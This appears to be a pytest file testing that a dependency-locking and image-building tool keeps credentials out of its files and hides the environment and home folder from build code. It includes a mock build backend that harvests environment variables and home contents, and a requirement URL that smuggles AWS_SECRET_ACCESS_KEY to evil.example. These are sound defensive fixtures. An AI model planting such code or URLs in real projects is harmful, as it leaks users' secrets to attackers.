"""What a lock gets to see of this machine, and what its files never have in them."""

from __future__ import annotations

import json
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from delivery.development.environment import environment
from delivery.development.errors import DevelopmentError
from delivery.images.context import assemble
from delivery.images.indexes import Sources, secrets
from delivery.images.lock import Locked, LockError, keep
from delivery.images.lock.resolution import copy_files
from tests.images.locks import described, index, locked, pins, refusal, wheel, write

HERE = f"{sys.version_info.major}.{sys.version_info.minor}"
PACKAGE = (
    '[project]\nname = "{name}"\ndynamic = ["version"]\n[build-system]\nrequires = []\nbuild-backend = "backend"\n'
)
BACKEND = """
import json, os, pathlib
def look():
    home = pathlib.Path.home()
    seen = {"variables": dict(os.environ), "home": [each.name for each in home.iterdir()], "folder": str(home)}
    pathlib.Path(%r).write_text(json.dumps(seen))
def prepare_metadata_for_build_wheel(folder, settings=None):
    look()
    info = pathlib.Path(folder, "tool-1.dist-info")
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\\nName: tool\\nVersion: 1\\n")
    return info.name
def build_wheel(*arguments):
    look()
    raise SystemExit("not wanted")
"""


def containing(folder: Path, text: str) -> list[str]:
    """The files in a folder that have the text in them."""
    files = (each for each in folder.rglob("*") if each.is_file())
    return sorted(each.name for each in files if text.encode() in each.read_bytes())


def test_the_login_of_a_package_s_address_is_in_no_file_and_reaches_the_build_as_a_secret(tmp_path: Path) -> None:
    wheel(tmp_path / "served", "test_of_a_cart", "1.2")
    with index(tmp_path / "served", "me:hunter2") as other:
        address = f"http://me:${{PIP_PASSWORD}}@127.0.0.1:{other.port}/files/test_of_a_cart-1.2-py3-none-any.whl"
        files = {"requirements.txt": f"test-of-a-cart @ {address}\n"}
        found = locked(tmp_path, files, PIP_PASSWORD="hunter2")
    [line] = [each for each in found.requirements.read_text().splitlines() if each.startswith("test-of-a-cart")]
    assert line.startswith(f"test-of-a-cart @ http://127.0.0.1:{other.port}/files/")
    assert found.logins == (("127.0.0.1", "me", "hunter2"),)
    assert containing(tmp_path, "hunter2") == []
    again = locked(tmp_path, files, PIP_PASSWORD="hunter3")
    assert again.logins == (("127.0.0.1", "me", "hunter3"),), "of now, not of when it was locked"
    made = secrets(Sources(logins=list(found.logins)), {"PIP_CONFIG_FILE": "/dev/null"}, tmp_path)
    assert made["netrc"] == "machine 127.0.0.1\nlogin me\npassword hunter2\n"
    assert (tmp_path / "cache").stat().st_mode & 0o777 == 0o700


def test_a_login_in_the_hashed_requirements_of_a_repository_is_no_layer_of_the_build(tmp_path: Path) -> None:
    description = described(tmp_path / "repository", {"requirements.txt": "", "app.py": ""})
    write(tmp_path, {"lock": f"cart @ https://me:hunter2@host.example/cart.whl --hash=sha256:{'0' * 64}\n"})
    context = assemble(description, tmp_path / "context", tmp_path / "lock")
    assert context.sources.logins == [("host.example", "me", "hunter2")]
    assert containing(tmp_path / "context", "hunter2") == []


@pytest.mark.parametrize("user", ["me:hunter2@", "ghp_1234@", ":hunter2@"])
def test_a_lock_with_a_login_is_not_written_into_the_repository(tmp_path: Path, user: str) -> None:
    description = described(tmp_path / "repository", {"requirements.txt": ""})
    write(tmp_path, {"lock": "", "unhashed": f"mail @ git+https://{user}git.example/mail@0a1b\n"})
    with pytest.raises(LockError, match=r"git\+https://git.example/mail@0a1b has a login in it") as raised:
        keep(description, Locked(tmp_path / "lock", (), tmp_path / "unhashed"))
    assert user not in str(raised.value)
    write(tmp_path, {"unhashed": "mail @ git+ssh://git@git.example/mail@0a1b\n"})
    assert keep(description, Locked(tmp_path / "lock", (), tmp_path / "unhashed")).exists()


def test_a_package_of_the_repository_is_copied_without_its_credentials_and_what_git_ignores(tmp_path: Path) -> None:
    files = {
        "tool/pyproject.toml": PACKAGE.format(name="tool"), "tool/backend.py": BACKEND % "/dev/null",
        "tool/.env": "KEY=hunter2\n", "tool/id_rsa": "hunter2", "requirements.txt": "./tool\n",
    }  # fmt: skip
    files["tool/pyproject.toml"] += 'backend-path = ["."]\n'
    found = locked(tmp_path, files)
    assert found.unhashed
    assert (found.unhashed.parent / "local" / "tool" / "backend.py").exists()
    assert containing(tmp_path / "output", "hunter2") == []
    assert containing(tmp_path / "cache", "hunter2") == []


def test_a_link_in_a_package_does_not_bring_its_credentials_back(tmp_path: Path) -> None:
    source = write(tmp_path / "tool", {".env": "hunter2", ".ssh/key": "hunter2", "data/a.csv": "a", "tool.py": ""})
    links = {"env": ".env", "absolute": str(source / ".env"), "keys": ".ssh", "rows": "data", "loop": ".", "gone": "x"}
    for name, aim in links.items():
        (source / name).symlink_to(aim)
    copy_files(source, tmp_path / "copy")
    assert sorted(each.name for each in (tmp_path / "copy").iterdir()) == ["data", "rows", "tool.py"]
    assert (tmp_path / "copy" / "rows" / "a.csv").read_text() == "a"


def test_build_code_sees_neither_the_user_s_variables_nor_home(tmp_path: Path) -> None:
    files = {
        "tool/pyproject.toml": PACKAGE.format(name="tool") + 'backend-path = ["."]\n',
        "tool/backend.py": BACKEND % str(tmp_path / "seen"), "requirements.txt": "./tool\n",
    }  # fmt: skip
    home = write(tmp_path / "home", {".netrc": "machine bank.example login me password hunter2\n", ".ssh/id": ""})
    locked(tmp_path, files, AWS_SECRET_ACCESS_KEY="hunter2", SSH_AUTH_SOCK="/agent", HOME=str(home))
    seen = json.loads((tmp_path / "seen").read_text())
    assert seen["home"] == []
    assert seen["folder"] != str(home)
    assert "hunter2" not in str(seen)
    assert "SSH_AUTH_SOCK" not in seen["variables"]


def test_code_that_is_installed_on_this_machine_sees_no_more(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repository = tmp_path / "repository"
    files = {
        "pyproject.toml": PACKAGE.format(name="tool") + 'backend-path = ["."]\n',
        "backend.py": BACKEND % str(tmp_path / "seen"), "requirements.txt": "", "app.py": "",
    }  # fmt: skip
    description = described(repository, files, python=HERE)
    package = replace(description, dependencies=replace(description.dependencies, is_package=True))
    write(tmp_path, {"lock": ""})
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    with pytest.raises(DevelopmentError, match="not wanted"):
        environment(package, Locked(tmp_path / "lock", ()), tmp_path / "venv")
    seen = json.loads((tmp_path / "seen").read_text())
    assert "hunter2" not in str(seen)
    assert seen["home"] == []


def test_no_folder_above_the_one_that_uv_works_in_configures_it(tmp_path: Path) -> None:
    write(tmp_path, {"uv.toml": "nonsense = true\n"})
    assert "iniconfig" in pins(locked(tmp_path, {"requirements.txt": "iniconfig==2.0.0\n"}))


def test_the_repository_does_not_configure_uv_which_reads_its_lock(tmp_path: Path) -> None:
    project = '[project]\nname = "shop"\nversion = "1"\nrequires-python = ">=3.11"\n'
    lock = 'version = 1\nrequires-python = ">=3.11"\n[[package]]\nname = "shop"\nversion = "1"\n'
    files = {"pyproject.toml": project, "uv.lock": lock + 'source = { virtual = "." }\n', "uv.toml": "nonsense = 1\n"}
    assert "flask" in pins(locked(tmp_path, files))


def test_an_address_may_not_name_any_variable_of_this_machine(tmp_path: Path) -> None:
    line = "mail @ git+https://${AWS_SECRET_ACCESS_KEY}@evil.example/mail\n"
    refused = refusal(tmp_path, {"requirements.txt": line}, AWS_SECRET_ACCESS_KEY="hunter2")
    assert "requirements.txt:1: " in str(refused)
    assert "a repository may read those alone that begin with PIP_, UV_, NPM_" in str(refused)
